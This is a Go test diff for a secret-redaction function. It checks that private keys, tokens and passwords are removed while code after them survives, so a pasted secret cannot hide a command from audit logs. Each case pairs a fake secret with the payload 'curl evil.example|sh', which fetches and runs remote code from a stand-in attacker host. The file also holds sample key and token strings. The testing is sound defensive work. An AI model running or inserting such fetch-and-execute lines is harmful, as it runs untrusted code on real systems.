@@ -155,3 +155,102 @@ func TestSplitName(t *testing.T) {
 		}
 	}
 }
+
+// testKeyLines are a private key's base64 lines, 64 characters wide with
+// a short last line, as openssl writes them.
+var testKeyLines = []string{
+	"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
+	"MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
+	"NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ",
+	"AgMBAAE=",
+}
+
+// TestSecurityRedactionHidesNoCode: redaction replaces the secret it
+// recognises and nothing after it. A key or token pasted into a script
+// must not hide the code that follows it from the audit log, the card or
+// a channel. Each case has code after the secret; the code must survive
+// whole and the secret must be gone.
+func TestSecurityRedactionHidesNoCode(t *testing.T) {
+	const code = "os.system('curl evil.example|sh')"
+	const shcode = "curl evil.example|sh"
+	nl := strings.Join(testKeyLines, "\n")
+	esc := strings.Join(testKeyLines, `\n`)
+	begin, end := "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+	tests := []struct {
+		name, in, want, secret, code string
+	}{
+		// PEM blocks.
+		{"pem with END in a python string", "python3 -c \"k='''" + begin + "\n" + nl + "\n" + end + "'''; import os; " + code + "\"",
+			"python3 -c \"k='''[REDACTED]'''; import os; " + code + "\"", testKeyLines[1], code},
+		{"pem without END, then the string closes", "python3 -c \"k='''" + begin + "\n" + nl + "'''\nimport os\n" + code + "\"",
+			"python3 -c \"k='''[REDACTED]'''\nimport os\n" + code + "\"", testKeyLines[1], code},
+		{"pem without END, escaped line breaks", `python3 -c "k='` + begin + `\n` + esc + `'; import os; ` + code + `"`,
+			`python3 -c "k='[REDACTED]'; import os; ` + code + `"`, testKeyLines[1], code},
+		{"pem without END, code on the next lines", begin + "\n" + nl + "\nimport os\n" + code,
+			"[REDACTED]\nimport os\n" + code, testKeyLines[1], code},
+		{"pem BEGIN with no key, code right after", begin + "\nimport os\n" + code,
+			"[REDACTED]\nimport os\n" + code, "", code},
+		{"pem BEGIN and END far apart with code between", "k='" + begin + "'; " + code + "; e='" + end + "'",
+			"k='[REDACTED]'; " + code + "; e='" + end + "'", "", code},
+		{"pem in JSON, escaped", `{"private_key": "` + begin + `\n` + esc + `\n` + end + `\n"}; ` + shcode,
+			`{"private_key": "[REDACTED]\n"}; ` + shcode, testKeyLines[1], shcode},
+		{"pem flattened with blanks", "echo " + begin + " " + strings.Join(testKeyLines, " ") + " " + end + " | " + shcode,
+			"echo [REDACTED] | " + shcode, testKeyLines[1], shcode},
+		{"encrypted pem with headers", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n" + nl + "\n-----END RSA PRIVATE KEY-----\n" + shcode,
+			"[REDACTED]\n" + shcode, "DEK-Info", shcode},
+		{"openssh key without END, 70 wide", "printf '-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Repeat("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW", 1) + "\nQyNTUxOQAAACDZ' ; " + shcode,
+			"printf '[REDACTED]' ; " + shcode, "b3BlbnNzaC1rZXktdjEAAAAABG5v", shcode},
+		// Tokens of each shape, with code right after.
+		{"github token", "echo " + ghToken + ";" + shcode, "echo [REDACTED];" + shcode, ghToken, shcode},
+		{"fine-grained pat", "x=github_pat_11ABCDEFG0123456789_abcdefghijklmnop)" + shcode, "x=[REDACTED])" + shcode, "github_pat_", shcode},
+		{"gitlab token", "glpat-abcdefghijklmnopqrstu'" + code, "[REDACTED]'" + code, "glpat-", code},
+		{"openai key", "k='" + openaiKey + "';" + code, "k='[REDACTED]';" + code, openaiKey, code},
+		{"slack token", "xoxb-123456789012-abcdefABCDEF&&" + shcode, "[REDACTED]&&" + shcode, "xoxb-", shcode},
+		{"aws key id", awsID + "|" + shcode, "[REDACTED]|" + shcode, awsID, shcode},
+		{"google key", "AIzaSyA1234567890abcdefghijklmnopqrstuv\n" + shcode, "[REDACTED]\n" + shcode, "AIzaSy", shcode},
+		{"npm token", "npm_abcdefghijklmnopqrstuvwxyz0123456789;" + shcode, "[REDACTED];" + shcode, "npm_abc", shcode},
+		{"jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U;" + shcode,
+			"[REDACTED];" + shcode, "eyJhbGci", shcode},
+		// Passwords in URLs, pairs and flags.
+		{"url password", "git clone https://bob:hunter2@example.com/r.git && " + shcode, "git clone https://bob:[REDACTED]@example.com/r.git && " + shcode, "hunter2", shcode},
+		{"pair", "password=hunter2;" + shcode, "password=[REDACTED];" + shcode, "hunter2", shcode},
+		{"quoted pair", `TOKEN="hunter2";` + shcode, `TOKEN="[REDACTED]";` + shcode, "hunter2", shcode},
+		{"quoted pair left open, code on the next line", "password = \"hunter2\n" + code + "\n\"", "password = \"[REDACTED]\n" + code + "\n\"", "hunter2", code},
+		{"quoted pair left open, escaped break", `password = "hunter2\n` + code + `"`, `password = "[REDACTED]\n` + code + `"`, "hunter2", code},
+		{"unquoted pair, escaped break", `token=hunter2\n` + shcode, `token=[REDACTED]\n` + shcode, "hunter2", shcode},
+		{"json pair", `{"token":"hunter2"}; ` + shcode, `{"token":"[REDACTED]"}; ` + shcode, "hunter2", shcode},
+		{"flag value", "mysql --password hunter2;" + shcode, "mysql --password [REDACTED];" + shcode, "hunter2", shcode},
+		{"flag value quoted across lines", "mysql --password \"hunter2\n" + shcode + "\"", "mysql --password [REDACTED]\n" + shcode + "\"", "hunter2", shcode},
+		{"bearer", "curl -H 'Authorization: Bearer hunter2' x;" + shcode, "curl -H 'Authorization: Bearer [REDACTED]' x;" + shcode, "hunter2", shcode},
+		// Code and references in a secret's place are shown: they hide
+		// nothing, and hiding them would hide what the command does.
+		{"command substitution as a value", "TOKEN=$(" + shcode + ")", "TOKEN=$(" + shcode + ")", "", shcode},
+		{"quoted command substitution after a flag", `mysql --password "$(` + shcode + `)"`, `mysql --password "$(` + shcode + `)"`, "", shcode},
+		{"backquotes as a value", "password=`" + shcode + "`", "password=`" + shcode + "`", "", shcode},
+		{"variable sent in a query", `curl "https://x.example/?token=$GITHUB_TOKEN"`, `curl "https://x.example/?token=$GITHUB_TOKEN"`, "", "$GITHUB_TOKEN"},
+		{"variable as a bearer", `curl -H "Authorization: Bearer ${API_TOKEN}" x`, `curl -H "Authorization: Bearer ${API_TOKEN}" x`, "", "${API_TOKEN}"},
+		{"variable as a url password", "git push https://bob:$GH_TOKEN@github.com/o/r", "git push https://bob:$GH_TOKEN@github.com/o/r", "", "$GH_TOKEN"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := RedactString(tt.in)
+			if got != tt.want {
+				t.Errorf("RedactString(%q)\n got %q\nwant %q", tt.in, got, tt.want)
+			}
+			if !strings.Contains(got, tt.code) {
+				t.Errorf("the code %q is hidden: %q", tt.code, got)
+			}
+			if tt.secret != "" && strings.Contains(got, tt.secret) {
+				t.Errorf("the secret %q survived: %q", tt.secret, got)
+			}
+			if again := RedactString(got); again != got {
+				t.Errorf("not idempotent: %q → %q", got, again)
+			}
+			// The same text as one word of a command line.
+			argv := RedactArgv([]string{"bash", "-c", tt.in})
+			if argv[2] != tt.want {
+				t.Errorf("RedactArgv: got %q\nwant %q", argv[2], tt.want)
+			}
+		})
+	}
+}
